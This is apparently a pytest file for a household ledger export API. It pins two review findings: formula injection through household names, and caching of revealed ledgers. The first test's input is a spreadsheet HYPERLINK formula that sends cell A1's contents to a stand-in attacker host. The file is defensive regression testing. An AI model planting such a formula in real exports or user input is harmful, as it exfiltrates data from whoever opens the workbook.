"""An outside review's findings on workbook exports (issue 10): a name that starts with "=" is written
as a live formula, and a revealed ledger may be cached. Pinned as tests that fail on main today."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from tests.conftest import Api
from tests.registry.test_households import create
from tests.seed import KEY_VILLAGE

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"点击查看")'


async def test_a_name_that_looks_like_a_formula_is_exported_as_text(api: Api) -> None:
    await create(api, head_name=FORMULA)
    response = await api.get("/api/ledger/export", "admin_a", params={"village_code": KEY_VILLAGE})
    assert response.status_code == 200, response.text
    book = load_workbook(io.BytesIO(response.content))
    formulas = [f"{ws.title}!{c.coordinate}" for ws in book.worksheets for row in ws.iter_rows() for c in row
                if c.data_type == "f" and isinstance(c.value, str) and "attacker" in c.value]
    assert formulas == []


async def test_a_revealed_ledger_is_never_cached(api: Api) -> None:
    await create(api)
    response = await api.get("/api/ledger/export", "admin_a", params={"village_code": KEY_VILLAGE, "reveal": "true"})
    assert response.status_code == 200, response.text
    assert "no-store" in response.headers.get("cache-control", "")
